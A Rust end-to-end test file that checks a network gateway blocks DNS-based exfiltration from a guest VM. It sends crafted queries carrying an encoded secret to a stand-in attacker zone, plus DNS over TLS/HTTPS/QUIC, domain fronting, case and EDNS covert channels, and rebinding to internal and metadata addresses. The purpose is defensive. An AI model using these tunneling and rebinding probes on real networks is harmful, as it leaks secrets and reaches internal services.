//! DNS: nothing goes out by questions, whatever their name, type, number or transport; and answers widen no rule.

use super::{
    field::{Event, Field, Real, on_field, the_attacker_sees_what_comes},
    wire::{Offer, connect, https, spoken, tcp},
};
use std::{
    io::{Read as _, Write as _},
    net::{IpAddr, SocketAddr, UdpSocket},
    time::Duration,
};
use tapgate_e2e::sites::{self, API, DNS, ECHO, EVIL, FILES, HOST_V4};

const VALUE: &str = "sk-live-dns-2d84c6e1907f4ba3";
const REALS: &[Real] = &[Real { value: VALUE, sites: &[ECHO] }];
/// Whatever stands below it exists, and is the attacker's.
const ZONE: &str = "tunnel.example.net";

const NOERROR: u8 = 0;
const FORMERR: u8 = 1;
const REFUSED: u8 = 5;

fn question(name: &str, kind: u16, class: u16) -> Vec<u8> {
    let label = |label: &str| [&[u8::try_from(label.len()).unwrap()], label.as_bytes()].concat();
    let labels: Vec<u8> = name.split('.').filter(|part| !part.is_empty()).flat_map(label).collect();
    [&labels[..], &[0], &kind.to_be_bytes(), &class.to_be_bytes()].concat()
}

/// A message with these questions; `flags` is the head's second word.
fn message(flags: u16, questions: &[Vec<u8>], more: &[u8], additional: u16) -> Vec<u8> {
    let count = u16::try_from(questions.len()).unwrap();
    let head = [0x1234, flags, count, 0, 0, additional].map(u16::to_be_bytes).concat();
    [head, questions.concat(), more.to_vec()].concat()
}

fn ask(name: &str, kind: u16) -> Vec<u8> {
    message(0x0100, &[question(name, kind, 1)], &[], 0)
}

fn udp(to: SocketAddr, bytes: &[u8]) -> Vec<u8> {
    let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
    socket.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    socket.send_to(bytes, to).unwrap();
    let mut buffer = vec![0; 4096];
    let count = socket.recv(&mut buffer).unwrap_or(0);
    buffer.truncate(count);
    buffer
}

fn over_tcp(to: SocketAddr, bytes: &[u8]) -> Vec<u8> {
    let framed = [&u16::try_from(bytes.len()).unwrap().to_be_bytes()[..], bytes].concat();
    let Ok(mut stream) = connect(to) else { return Vec::new() };
    let _ = stream.write_all(&framed);
    let mut length = [0; 2];
    if stream.read_exact(&mut length).is_err() {
        return Vec::new();
    }
    let mut answer = vec![0; usize::from(u16::from_be_bytes(length))];
    let _ = stream.read_exact(&mut answer);
    answer
}

fn code(answer: &[u8]) -> Option<u8> {
    answer.get(3).map(|flags| flags & 15)
}

fn answers(answer: &[u8]) -> u16 {
    answer.get(6..8).map_or(0, |count| u16::from_be_bytes([count[0], count[1]]))
}

#[test]
fn nothing_goes_out_by_questions_and_nothing_comes_in_by_answers() {
    on_field(REALS, |field| {
        field.api().rule("host", API.name).unwrap();
        field.api().rule("host", ECHO.name).unwrap();
        let key = field.api().secret("key", "KEY", VALUE, &[ECHO.name]).unwrap();
        let journal = field.world().journal().mark();
        let before = field.world().counters().unwrap();
        names_and_types(field);
        messages(field);
        let asked = journal.of("dns").unwrap();
        field.check(asked.is_empty(), || format!("the name server was asked {asked:?}"));
        let arrived = field.world().counters().unwrap().since(&before);
        field.check(arrived.any() == 0, || format!("packets left: {arrived:?}"));
        covert(field);
        other_transports(field);
        let arrived = field.arrived(EVIL);
        field.check(arrived == before.of(EVIL), || format!("{arrived} packets came to the attacker"));
        answers_widen_nothing(field);
        let own =
            format!("GET /own HTTP/1.1\r\nHost: {}\r\nX-Key: {key}\r\nConnection: close\r\n\r\n", ECHO.name);
        let to = SocketAddr::from((ECHO.v4, 443));
        field.attempt("the value's own host", &[Event::Passed("host")], || {
            https(to, ECHO.name, own.as_bytes())
        });
        the_attacker_sees_what_comes(field);
    });
}

/// Names under the attacker's zone and beside allowed ones, of every type, to the gateway, the name server and the attacker.
fn names_and_types(field: &mut Field<'_>) {
    let long = format!("{}.{}.{}.{ZONE}", "a".repeat(63), "b".repeat(63), "c".repeat(63));
    let long = long.as_str();
    let beside = format!("c2VjcmV0.{}", API.name);
    let below = format!("c2VjcmV0.{ZONE}");
    let (below, beside) = (below.as_str(), beside.as_str());
    // A, NS, CNAME, SOA, NULL, PTR, MX, TXT, KEY, AAAA, LOC, SRV, NAPTR, CERT, DNAME, DS, TLSA, SVCB, HTTPS, SPF, IXFR, AXFR,
    // ANY, URI, CAA, and one that nobody has heard of.
    let types = [
        1, 2, 5, 6, 10, 12, 15, 16, 25, 28, 29, 33, 35, 37, 39, 43, 52, 64, 65, 99, 251, 252, 255, 256, 257,
        65_399,
    ];
    let of_types = types.iter().map(|kind| (below, *kind, 1));
    let rows = of_types.chain([
        (long, 1, 1),
        (long, 16, 1),
        (beside, 1, 1),
        (beside, 16, 1),
        (ZONE, 1, 1),
        (API.name, 10, 1),
        (API.name, 252, 1),
        (API.name, 255, 1),
        (API.name, 1, 3),
        (API.name, 1, 255),
        ("1.2.0.192.in-addr.arpa", 12, 1),
        ("", 2, 1),
    ]);
    for (n, (name, kind, class)) in rows.enumerate() {
        let to = [DNS.v4, EVIL.v4, [169, 254, 77, 1].into()][n % 3];
        let to = SocketAddr::from((to, 53));
        let bytes = message(0x0100, &[question(name, kind, class)], &[], 0);
        for tcp in [false, true] {
            let what = format!(
                "type {kind}, class {class}, of {name:?} at {to}, {}",
                if tcp { "TCP" } else { "UDP" }
            );
            let got = field.guest(&what, || if tcp { over_tcp(to, &bytes) } else { udp(to, &bytes) });
            field.expect_refusal(&what, &["no_rule", "dns_question", "bad_name"]);
            field.check(code(&got) == Some(REFUSED) && answers(&got) == 0, || format!("{what}: {got:x?}"));
        }
    }
}

/// Messages that are no plain question.
fn messages(field: &mut Field<'_>) {
    let (api, evil) = (question(API.name, 1, 1), question(&format!("x.{ZONE}"), 1, 1));
    let rows: Vec<(&str, Vec<u8>, &[u8])> = vec![
        ("two questions", message(0x0100, &[api.clone(), evil.clone()], &[], 0), &[FORMERR, REFUSED]),
        (
            "two questions, the attacker's first",
            message(0x0100, &[evil.clone(), api.clone()], &[], 0),
            &[FORMERR, REFUSED],
        ),
        ("no question", message(0x0100, &[], &[], 0), &[FORMERR, REFUSED]),
        ("NOTIFY", message(0x2000, std::slice::from_ref(&evil), &[], 0), &[FORMERR, REFUSED, 4]),
        ("UPDATE", message(0x2800, std::slice::from_ref(&evil), &[], 0), &[FORMERR, REFUSED, 4]),
        ("STATUS", message(0x1000, std::slice::from_ref(&api), &[], 0), &[FORMERR, REFUSED, 4]),
        ("a pointer to itself", message(0x0100, &[vec![0xc0, 12, 0, 1, 0, 1]], &[], 0), &[FORMERR, REFUSED]),
        (
            "a label of 64",
            message(0x0100, &[[&[64][..], &[b'a'; 64], &[0, 0, 1, 0, 1]].concat()], &[], 0),
            &[FORMERR, REFUSED],
        ),
    ];
    let to = SocketAddr::from((DNS.v4, 53));
    for (what, bytes, codes) in rows {
        for tcp in [false, true] {
            let what = format!("{what}, {}", if tcp { "TCP" } else { "UDP" });
            let got = field.guest(&what, || if tcp { over_tcp(to, &bytes) } else { udp(to, &bytes) });
            field.expect_refusal(&what, &["dns_question", "malformed"]);
            let right = code(&got).is_some_and(|code| codes.contains(&code)) && answers(&got) == 0;
            field.check(right, || format!("{what}: {got:x?}"));
        }
    }
    let answer = message(0x8180, &[api], &[], 0);
    let got = field.guest("an answer", || udp(to, &answer));
    field.expect_refusal("an answer", &["malformed"]);
    field.check(got.is_empty(), || format!("an answer is answered: {got:x?}"));
}

/// A question for an allowed name carries nothing else: neither in letters' case nor in options.
fn covert(field: &mut Field<'_>) {
    let name = "aPi.ExAmPlE.cOm";
    let option =
        [&[0, 0, 41, 4, 208, 0, 0, 0, 0, 0, 20, 0xfd, 0xe9, 0, 16][..], b"c2VjcmV0c2VjcmV0"].concat();
    let bytes = message(0x0100, &[question(name, 1, 1)], &option, 1);
    let journal = field.world().journal().mark();
    let got = field.guest("letters and options", || udp((DNS.v4, 53).into(), &bytes));
    field.expect_events("letters and options", &[]);
    field.check(code(&got) == Some(NOERROR) && answers(&got) == 1, || format!("an allowed name: {got:x?}"));
    let asked = journal.of("dns").unwrap();
    let plain = asked.iter().all(|entry| {
        entry["written"].as_str().is_some_and(|name| name.chars().all(|c| !c.is_ascii_uppercase()))
            && entry["options"] == 0
            && entry["name"] == API.name
    });
    field.check(!asked.is_empty() && plain, || format!("what went out is not plain: {asked:?}"));
}

/// DNS over TLS, HTTPS and QUIC at the attacker's, and at an allowed name's address.
fn other_transports(field: &mut Field<'_>) {
    let bytes = ask(&format!("c2VjcmV0.{ZONE}"), 16);
    let framed = [&u16::try_from(bytes.len()).unwrap().to_be_bytes()[..], &bytes].concat();
    let refused = [Event::Refused("no_rule")];
    for at in [EVIL, API] {
        let dot = SocketAddr::from((at.v4, 853));
        let offer = Offer::alpn(&["dot"]);
        field.attempt(&format!("DNS over TLS at {dot}"), &refused, || {
            spoken(connect(dot).and_then(|stream| offer.tls(EVIL.name, stream)), &framed)
        });
        // At an address that this VM was given for an allowed name it is that name's, where nobody listens.
        let what = format!("DNS over TLS at {dot}, without a name");
        let reason = if at == API { "unreachable" } else { "no_name" };
        field.attempt(&what, &[Event::Refused(reason)], || {
            spoken(connect(dot).and_then(|stream| offer.tls(&at.v4.to_string(), stream)), &framed)
        });
        let doh = format!(
            "POST /dns-query HTTP/1.1\r\nHost: {}\r\nContent-Type: application/dns-message\r\nContent-Length: {}\r\n\r\n",
            EVIL.name,
            bytes.len()
        );
        let doh = [doh.as_bytes(), &bytes].concat();
        let to = SocketAddr::from((at.v4, 443));
        field.attempt(&format!("DNS over HTTPS at {to}"), &refused, || https(to, EVIL.name, &doh));
        field.attempt(&format!("DNS over HTTP at {}", at.v4), &refused, || tcp((at.v4, 80), &doh));
        // A name that is opened is held to it; what an allowed name's own server is asked in TLS that is not is its own.
        field.attempt(
            &format!("DNS over HTTPS, fronted, at {to}"),
            &[Event::Refused("name_mismatch")],
            || https(to, ECHO.name, &doh),
        );
        for (port, reason) in [(443, "quic"), (853, "no_rule"), (8853, "no_rule")] {
            let what = format!("DNS over QUIC at {}, port {port}", at.v4);
            let got = field.attempt(&what, &[Event::Refused(reason)], || udp((at.v4, port).into(), &bytes));
            field.check(got.is_empty(), || format!("{what}: {got:x?}"));
        }
    }
}

/// What an attacker's zone answers opens nothing: no address inside, and no address at all for a name that is not allowed.
fn answers_widen_nothing(field: &mut Field<'_>) {
    let rule = field.api().rule("host", &format!("*.{}", sites::INWARD_ZONE)).unwrap();
    for inner in
        [IpAddr::from(HOST_V4), [10, 0, 0, 1].into(), [169, 254, 169, 254].into(), [10, 214, 200, 9].into()]
    {
        let name = sites::inward(inner);
        let what = format!("a name that answers {inner}");
        let got = field.guest(&what, || udp((DNS.v4, 53).into(), &ask(&name, 1)));
        field.expect_events(&what, &[]);
        field.check(answers(&got) == 0, || format!("{what}: {got:x?}"));
        if inner != IpAddr::from([169, 254, 169, 254]) {
            let what = format!("{inner}, port 25, after that");
            let got = field.guest(&what, || tcp((inner, 25), b"\x01x"));
            field.expect_refusal(&what, &["host_address", "private", "other_vm", "no_name"]);
            field.check(got.is_empty(), || format!("{what}: {got:x?}"));
        }
    }
    // The attacker's zone answers the address of somebody's service; while its names are not allowed, that gives no pin.
    let service = sites::inward(FILES.v4.into());
    field.api().remove_rule(&rule).unwrap();
    let got =
        field.guest("a pin by a name that is not allowed", || udp((DNS.v4, 53).into(), &ask(&service, 1)));
    field.expect_refusal("a pin by a name that is not allowed", &["no_rule"]);
    field.check(code(&got) == Some(REFUSED), || format!("{got:x?}"));
    let to = SocketAddr::from((FILES.v4, 7));
    let got = field.attempt("its address", &[Event::Refused("no_name")], || tcp(to, b"\x01x"));
    field.check(got.is_empty(), || format!("its address: {got:x?}"));
}
